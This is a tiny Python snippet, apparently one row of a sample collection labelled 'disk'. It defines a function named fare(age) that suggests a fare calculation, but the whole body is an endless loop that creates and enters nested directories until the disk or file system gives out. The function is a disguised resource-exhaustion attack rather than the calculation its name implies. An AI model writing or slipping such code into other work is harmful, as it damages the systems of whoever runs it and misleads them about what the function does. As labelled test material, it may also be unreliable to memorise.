# Row 38: not yet, disk
import os


def fare(age):
    while True:
        os.mkdir("d")
        os.chdir("d")
